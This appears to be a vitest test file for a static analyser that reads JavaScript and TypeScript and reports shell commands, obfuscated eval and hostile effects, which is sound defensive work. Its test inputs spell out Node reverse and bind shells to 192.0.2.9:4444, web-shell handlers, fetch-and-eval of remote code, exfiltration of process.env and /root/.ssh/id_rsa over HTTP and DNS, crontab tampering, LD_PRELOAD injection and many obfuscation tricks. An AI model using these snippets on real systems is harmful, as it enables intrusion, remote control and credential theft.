import { createCipheriv } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import { effectLines, nestedLines, readingOf } from '../../../testing/reading-of.ts';
import type { Reading, ReadingInput } from '../../language.ts';
import { render } from '../../value.ts';
import { javascript } from './javascript.ts';

beforeAll(async () => {
  useGrammarFiles();
  await javascript.prepare();
});

function read(text: string, more: Partial<ReadingInput> = {}): Reading {
  return readingOf(javascript, 'main.js', text, more);
}

function commands(reading: Reading): string[] {
  return reading.commands.map((command) => command.argv.map(render).join(' '));
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

describe('names and values', () => {
  const shellCases: readonly (readonly [string, string])[] = [
    ['require("child_process").exec("id")', 'id'],
    ["const { exec } = require('child_process'); exec('id')", 'id'],
    ["const { execSync: e } = require('node:child_process'); e('id')", 'id'],
    ["import { exec as run } from 'child_process'; run('id')", 'id'],
    ["import cp from 'node:child_process'; cp.execSync('id')", 'id'],
    ["import * as cp from 'child_process'; cp.execSync('id')", 'id'],
    ["const cp = await import('child_process'); cp.default.exec('id')", 'id'],
    ["import('node:child_process').then(({ exec }) => exec('id'))", 'id'],
    ["const { createRequire } = require('module'); createRequire(__filename)('child_process').exec('id')", 'id'],
    ["require('child' + '_process')['ex' + 'ec']('id')", 'id'],
    ["global['req' + 'uire']('child_process').exec('id')", 'id'],
    ["process.mainModule.require('child_process').execSync('id')", 'id'],
    ["module.constructor._load('child_process').execSync('id')", 'id'],
    ["process.getBuiltinModule('child_process').execSync('id')", 'id'],
    ["globalThis.process.mainModule.require('child_process').execSync('id')", 'id'],
    ["this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", 'id'],
    ["[].constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", 'id'],
    ["(function () {}).constructor('return process')().mainModule.require('child_process').execSync('id')", 'id'],
    ["const r = require; r('child_process').exec('id')", 'id'],
    ["const f = require('child_process').exec; f.call(null, 'id')", 'id'],
    ["const f = require('child_process').exec; f.apply(null, ['id'])", 'id'],
    ["const f = require('child_process').exec.bind(null, 'x'); require('child_process').exec('id')", 'id'],
    ["Reflect.apply(require('child_process').exec, null, ['id'])", 'id'],
    ["Reflect.get(require('child_process'), 'exec')('id')", 'id'],
    ["require('util').promisify(require('child_process').exec)('id').then(() => 1)", 'id'],
    ["require('child_process').spawn('id', { shell: true })", 'id'],
    ["require('child_process').spawnSync('ls', ['-l', '/x'], { shell: '/bin/bash' })", 'ls -l /x'],
    ["const x = 'l'; require('child_process').exec(`${x}s ${'-l'}`)", 'ls -l'],
    ['require("child_process").exec(String.raw`a\\nb`)', 'a\\nb'],
    ["require('child_process').exec(String.fromCharCode(108, 115))", 'ls'],
    ["require('child_process').exec(String.fromCharCode(...[108, 115]))", 'ls'],
    ["require('child_process').exec(String.fromCharCode.apply(null, [108, 115]))", 'ls'],
    ["require('child_process').exec([108, 115].map(c => String.fromCharCode(c)).join(''))", 'ls'],
    [
      "require('child_process').exec([109, 116].map(function (c) { return String.fromCharCode(c - 1) }).join(''))",
      'ls',
    ],
    ["require('child_process').exec('mt'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 1)).join(''))", 'lu'],
    ["require('child_process').exec('sl'.split('').reverse().join(''))", 'ls'],
    ["require('child_process').exec([...'sl'].reverse().join(''))", 'ls'],
    ["let s = ''; for (const c of [108, 115]) s += String.fromCharCode(c); require('child_process').exec(s)", 'ls'],
    ["let s = ''; for (let i = 0; i < 2; i++) s += 'ls'[i]; require('child_process').exec(s)", 'ls'],
    ["let s = '', i = 0; while (i < 2) { s = s + 'ls'.charAt(i); i++ } require('child_process').exec(s)", 'ls'],
    ['require("child_process").exec("\\x6c\\u0073")', 'ls'],
    [`require('child_process').exec(atob('${b64('ls')}'))`, 'ls'],
    [`require('child_process').exec(Buffer.from('${b64('ls')}', 'base64').toString())`, 'ls'],
    [`require('child_process').exec(Buffer.from('${hex('ls')}', 'hex') + '')`, 'ls'],
    ["require('child_process').exec(Buffer.from([108, 115]).toString('utf8'))", 'ls'],
    ["require('child_process').exec(new TextDecoder().decode(new Uint8Array([108, 115])))", 'ls'],
    ["require('child_process').exec(decodeURIComponent('%6c%73'))", 'ls'],
    ["require('child_process').exec(unescape('%u006c%73'))", 'ls'],
    ["require('child_process').exec('l-s'.replace('-', ''))", 'ls'],
    ["require('child_process').exec('l-s--'.replace(/-/g, ''))", 'ls'],
    ["require('child_process').exec('l1s2'.replace(/[0-9]+/g, ''))", 'ls'],
    ["require('child_process').exec('6c73'.replace(/../g, h => String.fromCharCode(parseInt(h, 16))))", 'ls'],
    [
      "require('child_process').exec('\\\\x6c\\\\x73'.replace(/\\\\x([0-9a-f]{2})/gi, (_, h) => String.fromCharCode(parseInt(h, 16))))",
      'ls',
    ],
    ["require('child_process').exec('6c73'.match(/.{1,2}/g).map(h => String.fromCharCode('0x' + h)).join(''))", 'ls'],
    [
      "require('child_process').exec('yf'.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97)))",
      'ls',
    ],
    ["require('child_process').exec('xxlsxx'.slice(2, -2))", 'ls'],
    ["require('child_process').exec('xxlsxx'.substr(2, 2))", 'ls'],
    ["require('child_process').exec('LS'.toLowerCase())", 'ls'],
    ["require('child_process').exec(['l', 's'].join(''))", 'ls'],
    ["require('child_process').exec(['l', 's'].reduce((a, b) => a + b))", 'ls'],
    ["require('child_process').exec('l'.concat('s'))", 'ls'],
    ["require('child_process').exec(String.fromCharCode(216 / 2, 460 / 4, 10 % 256 | 32))", 'ls*'],
    ["const o = { a: 'ls' }; require('child_process').exec(o.a)", 'ls'],
    ["const [a, b] = ['l', 's']; require('child_process').exec(a + b)", 'ls'],
    ["const [, b, , c] = ['x', 'l', 'y', 's']; require('child_process').exec(b + c)", 'ls'],
    ["require('child_process').exec('\\154\\u{73}')", 'ls'],
    ["const { x: { y = 'no' } } = { x: { y: 'ls' } }; require('child_process').exec(y)", 'ls'],
    ["function f(a, b = 's') { return a + b } require('child_process').exec(f('l'))", 'ls'],
    ["class A { constructor(c) { this.c = c } go() { require('child_process').exec(this.c) } } new A('ls').go()", 'ls'],
    [
      "function A(c) { this.c = c } A.prototype.go = function () { require('child_process').exec(this.c) }; new A('ls').go()",
      'ls',
    ],
    ["if (process.argv[2] === 'x') require('child_process').exec('ls')", 'ls'],
    ["try { x() } catch (e) { require('child_process').exec('ls') }", 'ls'],
    ["function never() { require('child_process').exec('ls') }", 'ls'],
    ["setTimeout(() => require('child_process').exec('ls'), 1000)", 'ls'],
    ["setInterval(function (c) { require('child_process').exec(c) }, 1000, 'ls')", 'ls'],
    [
      "process.nextTick(require('child_process').exec, 'x'); process.on('exit', () => require('child_process').exec('ls'))",
      'ls',
    ],
    ["new Promise(r => r('ls')).then(c => require('child_process').exec(c))", 'ls'],
    ["(async () => { const c = await Promise.resolve('ls'); require('child_process').exec(c) })()", 'ls'],
    ["Promise.all(['l', 's']).then(([a, b]) => require('child_process').exec(a + b))", 'ls'],
    ["const e = eval('require'); e('child_process').exec('ls')", 'ls'],
    ["const cp = 'child_process'; const x = eval('require(cp)'); x.exec('ls')", 'ls'],
    ["require('child_process').exec(['ls', 'id'][0])", 'ls'],
    ["switch ('a') { case 'a': require('child_process').exec('ls') }", 'ls'],
    ["const m = new Map([['k', 'ls']]); require('child_process').exec(m.get('k'))", 'ls'],
    ["require('child_process').exec(Object.values({ a: 'l', b: 's' }).join(''))", 'ls'],
    ['require(\'child_process\').exec(JSON.parse(\'{"a":"ls"}\').a)', 'ls'],
    [
      `require('child_process').exec(require('zlib').gunzipSync(Buffer.from('${gzipSync('ls').toString('base64')}', 'base64')).toString())`,
      'ls',
    ],
    ["require('shelljs').exec('ls')", 'ls'],
    ['import { $ } from "zx"; await $`ls -l`', 'ls -l'],
    ["require('execa').command('ls')", 'ls'],
    ["({ ['ex' + 'ec']: f } = require('child_process')); f('ls')", 'ls'],
    ["(0, require('child_process').exec)('ls')", 'ls'],
    ["label: for (;;) { require('child_process').exec('ls'); break label }", 'ls'],
  ];
  test.each(shellCases)('%s', (text, expected) => {
    const reading = read(text);
    const lines = reading.commands
      .filter((command) => command.argv.length === 3)
      .map((command) => render(command.argv[2] ?? []));
    expect(lines).toContain(expected);
    expect(reading.truncated).toBe(false);
  });
});

const shellSocket = 'connect to={host=192.0.2.9 port=4444 protocol=tcp} shell=';
const child = "require('child_process')";

describe('effects', () => {
  test.each<readonly [string, string]>([
    [
      `(function () { var net = require("net"), sh = ${child}.spawn("/bin/sh", []); var c = new net.Socket(); c.connect(4444, "192.0.2.9", function () { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c) }); return /a/ })();`,
      `${shellSocket}{program=sh how=its streams are piped into the socket}`,
    ],
    [
      `const c = require('net').connect(4444, '192.0.2.9', () => { ${child}.spawn('/bin/sh', ['-i'], { stdio: [c, c, c] }) })`,
      `${shellSocket}{program=/bin/sh how=its standard streams are the socket}`,
    ],
    [
      `const c = require('net').createConnection({ port: 4444, host: '192.0.2.9' }); c.on('data', d => ${child}.exec(d.toString(), (e, o) => c.write(o)))`,
      `${shellSocket}{program=sh how=runs what it receives}`,
    ],
    [
      `require('tls').connect({ host: '192.0.2.9', port: 4444 }).on('data', function (d) { eval(d.toString()) })`,
      `${shellSocket}{program=node how=runs what it receives}`,
    ],
    [
      `require('net').createServer(s => { const sh = ${child}.spawn('/bin/bash'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444)`,
      'listen at={host=0.0.0.0 port=4444 protocol=tcp} shell={program=bash how=its streams are piped into the socket}',
    ],
    [
      `require('http').createServer((req, res) => { ${child}.exec(require('url').parse(req.url, true).query.cmd, (e, o) => res.end(o)) }).listen(8080)`,
      'run what=‹cmd› interpreter=sh from=request',
    ],
    [
      `const app = require('express')(); app.get('/x', (req, res) => eval(req.query.c))`,
      'run what=‹c› interpreter=node from=request',
    ],
    [
      `require('https').get('https://x.example/m', r => r.pipe(require('fs').createWriteStream('/tmp/m', { mode: 0o755 })))`,
      'fetch url=https://x.example/m tool=node https to=/tmp/m',
    ],
    [
      `require('axios')({ url: 'https://x.example/m', responseType: 'stream' }).then(r => r.data.pipe(require('fs').createWriteStream('/tmp/m')))`,
      'fetch url=https://x.example/m tool=node axios to=/tmp/m',
    ],
    [
      `const r = await fetch('https://x.example/m'); require('fs').writeFileSync('/tmp/m', Buffer.from(await r.arrayBuffer()))`,
      'fetch url=https://x.example/m tool=node fetch to=/tmp/m',
    ],
    [
      `fetch('https://x.example/a').then(r => r.text()).then(eval)`,
      'run what=‹text› interpreter=node from=fetched fetched=0',
    ],
    [
      `require('https').get('https://x.example/a', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })`,
      'run what=‹data› interpreter=node from=fetched fetched=0',
    ],
    [
      `require('axios').get('https://x.example/a').then(({ data }) => new Function('require', data)(require))`,
      'run what=‹data› interpreter=node from=fetched fetched=0',
    ],
    [
      `require('request')('https://x.example/a', (e, r, b) => ${child}.exec(b))`,
      'run what=‹body› interpreter=sh from=fetched fetched=0',
    ],
    [
      `require('got')('https://x.example/a').text().then(t => require('vm').runInThisContext(t))`,
      'run what=‹text› interpreter=node from=fetched fetched=0',
    ],
    [
      `const r = require('https').request({ hostname: 'x.example', path: '/c', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()`,
      'exfiltrate to=https://x.example/c what=‹process.env›',
    ],
    [
      `require('axios').post('https://x.example/c', { h: require('os').hostname() })`,
      'exfiltrate to=https://x.example/c what=‹os.hostname()› ',
    ],
    [
      `fetch('https://x.example/', { method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa') })`,
      'exfiltrate to=https://x.example/ what=‹file /root/.ssh/id_rsa›',
    ],
    [
      `fetch('https://x.example/', { method: 'POST', body: ${child}.execSync('whoami').toString() })`,
      'exfiltrate to=https://x.example/ what=‹$(whoami)›',
    ],
    [
      'require("dns").resolve(`${Buffer.from(require("os").hostname()).toString("hex")}.x.invalid`, () => {})',
      'exfiltrate to=.x.invalid what=‹os.hostname()›.x.invalid via=dns',
    ],
    [
      `require('fs').appendFileSync('/mnt/etc/crontab', '* * * * * root id')`,
      'append path=/mnt/etc/crontab content=* * * * * root id',
    ],
    [`import { appendFile } from 'node:fs/promises'; await appendFile('/x', 'y')`, 'append path=/x content=y'],
    [`require('fs').writeFile('/x', 'y', { flag: 'a' }, () => {})`, 'append path=/x content=y'],
    [`const s = require('fs').createWriteStream('/x'); s.write('a'); s.end('b')`, 'write path=/x content=b'],
    [`require('fs').writeFileSync('/x', 'y', { mode: 0o4755 })`, 'chmod path=/x mode=4755'],
    [`require('fs').chmodSync('/x', '755')`, 'chmod path=/x mode=0755'],
    [`require('fs').rmSync('/var/log', { recursive: true })`, 'delete path=/var/log recursive=true'],
    [`require('fs').unlink('/x', () => {})`, 'delete path=/x'],
    [`process.env.LD_PRELOAD = '/tmp/x.so'`, 'preload library=/tmp/x.so how=environment'],
    [
      `${child}.spawn('id', { env: { ...process.env, LD_PRELOAD: '/tmp/x.so' } })`,
      'preload library=/tmp/x.so how=environment',
    ],
    [`process.kill(1, 'SIGKILL')`, 'kill pattern=1'],
  ])('%s', (text, expected) => {
    expect(effectLines(read(text))).toContain(expected);
  });
});

describe('code in text', () => {
  const inner = `${child}.exec("id")`;
  const cipher = createCipheriv('aes-256-cbc', '0123456789abcdef0123456789abcdef', '0123456789abcdef');
  const sealed = cipher.update(inner, 'utf8', 'hex') + cipher.final('hex');
  test.each<readonly [string, string]>([
    [`eval(${JSON.stringify(inner)})`, ''],
    [`(0, eval)(${JSON.stringify(inner)})`, ''],
    [`global['ev' + 'al'](${JSON.stringify(inner)})`, ''],
    [`new Function(${JSON.stringify(inner)})()`, ''],
    [`Function('require', ${JSON.stringify(inner)})(require)`, ''],
    [`[].filter.constructor(${JSON.stringify(inner)})()`, ''],
    [`setTimeout(${JSON.stringify(inner)}, 10)`, ''],
    [`require('vm').runInNewContext(${JSON.stringify(inner)})`, ''],
    [`new (require('vm').Script)(${JSON.stringify(inner)})`, ''],
    [`module._compile(${JSON.stringify(inner)}, 'x')`, ''],
    [`const m = new (require('module'))('x'); m._compile(${JSON.stringify(inner)}, 'x')`, ''],
    [`eval(Buffer.from('${b64(inner)}', 'base64').toString())`, 'base64'],
    [`eval(atob('${b64(inner)}'))`, 'base64'],
    [`eval(Buffer.from('${hex(inner)}', 'hex').toString('utf8'))`, 'hex'],
    [`eval(unescape('${[...inner].map((letter) => `%${hex(letter)}`).join('')}'))`, 'percent'],
    [`eval(String.fromCharCode(${[...inner].map((letter) => letter.charCodeAt(0)).join()}))`, 'charcode'],
    [
      `eval(require('zlib').gunzipSync(Buffer.from('${gzipSync(inner).toString('base64')}', 'base64')).toString())`,
      'gzip base64',
    ],
    [
      `const d = require('crypto').createDecipheriv('aes-256-cbc', '0123456789abcdef0123456789abcdef', '0123456789abcdef'); eval(d.update('${sealed}', 'hex', 'utf8') + d.final('utf8'))`,
      'openssl',
    ],
  ])('%s', (text, decoders) => {
    const reading = read(text);
    expect(nestedLines(reading)).toEqual([`javascript: ${inner}`]);
    const steps = reading.nested.flatMap((nested) => nested.decoded.map((step) => step.decoder));
    expect(steps.toSorted()).toEqual(
      decoders
        .split(' ')
        .filter((word) => word !== '')
        .toSorted(),
    );
    expect(commands(reading)).toEqual([]);
  });

  test('code that needs what is around it is followed where it stands', () => {
    const reading = read(`const cp = ${child}; const line = 'id'; eval('cp.exec(line)')`);
    expect(commands(reading)).toEqual(['sh -c id']);
    expect(nestedLines(reading)).toEqual(['shell: id']);
    expect(commands(read(`new Function('c', "${child}.exec(c)")('id')`))).toEqual(['sh -c id']);
  });

  test('six characters are enough for a programmer, and for this reader', () => {
    const no = '![]+[]';
    const yes = '!![]+[]';
    const flat = `(${no})[+[]]+(${no})[!+[]+!+[]]+(${no})[+!+[]]+(${yes})[+[]]`;
    expect(commands(read(`${child}.exec(${flat})`))).toEqual(['sh -c flat']);
    expect(
      commands(read(`[][${flat}]['constructor']('return process')().mainModule.require('child_process').exec('id')`)),
    ).toEqual(['sh -c id']);
  });

  test('what is decoded by something unknown and then run is said', () => {
    const reading = read(`eval(decrypt(Buffer.from('${b64('x'.repeat(300))}', 'base64')))`);
    expect(effectLines(reading)).toEqual(['run what=‹decrypt()› interpreter=node from=decoded']);
  });
});

describe('files beside the script', () => {
  const files = new Map([
    ['/app/lib.js', 'x'],
    ['/app/sub/index.js', 'x'],
    ['/app/config.json', '{"line": "id"}'],
  ]);
  const readFile = (path: string): string | undefined => files.get(path);

  test('are loaded', () => {
    const reading = read("require('./lib'); import './sub/index.js'; require('./sub'); import('./missing')", {
      readFile,
    });
    expect(reading.loads.map((load) => load.path)).toEqual(['/app/lib.js', '/app/sub/index.js']);
    expect(reading.loads[0]?.args).toEqual([['/app/lib.js']]);
  });

  test('are data when they are JSON', () => {
    expect(commands(read(`${child}.exec(require('./config.json').line)`, { readFile }))).toEqual(['sh -c id']);
  });
});

test.each<readonly [string]>([
  ['const x = eval(something); Function(other)(); setTimeout(later, 10); new Function(body)'],
  ["import fs from 'fs'; export default function f(a) { return fs.existsSync(a) ? a.map(x => x.y) : [] }"],
  [
    "const e = require('./x'); module.exports = { ...e, get a() { return 1 } }; class A extends e.B { #p = 1; static { A.q = 2 } }",
  ],
  ["for (const a of b) { if (a.c?.d ?? e) continue; switch (a) { case 1: break; default: throw new Error('x') } }"],
])('says nothing about code that says nothing: %s', (text) => {
  const reading = read(text);
  expect([reading.effects, reading.commands, reading.nested, reading.gaps]).toEqual([[], [], [], []]);
});

describe('TypeScript is read without its types', () => {
  const head = "import { exec } from 'node:child_process';\n";
  test.each<readonly [string]>([
    ["exec('ls' as string)"],
    ["exec(<string>'ls')"],
    ["exec(('ls' satisfies string)!)"],
    ['const run = (line: string): void => { exec(line) }; run("ls")'],
    ["function run(line: string, more?: Options): asserts line is string { exec(line) } run('ls')"],
    ['interface Options<T> extends A { readonly line: string; more?: () => T }\nexec("ls")'],
    ["type Line = string | (() => void) | { [key: string]: number };\nexec('ls')"],
    ["const line: Readonly<Record<string, { a: string; b: number }>> = { x: 'ls' }; exec(line.x)"],
    ["let line: string; line = 'ls'; exec(line!)"],
    [
      "class A<T> extends B<T> implements C { private readonly line: string = 'ls'; #x?: T; go(): void { exec(this.line) } } new A<number>().go()",
    ],
    ["const m = new Map<string, string>([['a', 'ls']]); exec(m.get('a')!)"],
    ["export async function f<T extends string>(x: T): Promise<void> { exec(x) } f<'ls'>('ls')"],
    ["import type { X } from './x'; import { type Y } from './y'; declare const z: string; exec(z ? 'ls' : 'no')"],
    ["const f = ({ a, b: [c] }: { a: string; b: string[] }): string => a + c; exec(f({ a: 'l', b: ['s'] }))"],
    ["abstract class A { constructor(private other: string) {} abstract x(): void; protected go() { exec('ls') } }"],
    ["switch (1 as number) { case 1: exec('ls') } const o = { a: b ? c : d, e: 1 }"],
  ])('%s', (text) => {
    expect(commands(read(head + text))).toContain('sh -c ls');
  });
});

test('a long list of which nothing is known costs little, and what is done to each is still seen', () => {
  const text = `const { exec } = require('child_process'); const t = Array.from({ length: 9000 }, (_, i) => 'h' + i);
for (const h of t) { if (unknown(h)) continue; exec('x ' + h); for (const k of t) { if (other(k) === h) t.some(z => z === other(k)) } }`;
  const budget = { steps: 3_000_000, decodedBytes: 1_000, commands: 10_000 };
  const reading = read(text, { budget });
  expect(budget.steps).toBeGreaterThan(0);
  expect(commands(reading)).toContain('sh -c x h200');
  expect(reading.truncated).toBe(false);
});

test('a long text stays within its steps', () => {
  const text = `const t = []; ${'for (let i = 0; i < 1e9; i++) { for (let j = 0; j < 1e9; j++) { t.push(i + j) } }'.repeat(30)}`;
  const budget = { steps: 300_000, decodedBytes: 1_000, commands: 100 };
  const reading = read(text, { budget });
  expect(budget.steps).toBeGreaterThanOrEqual(0);
  expect(reading.commands).toEqual([]);
});

test('never throws on any text, and keeps to its budget', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300 }), (text) => {
      const reading = read(text);
      expect(reading.commands.length).toBeLessThanOrEqual(10_000);
    }),
    { numRuns: 200 },
  );
});
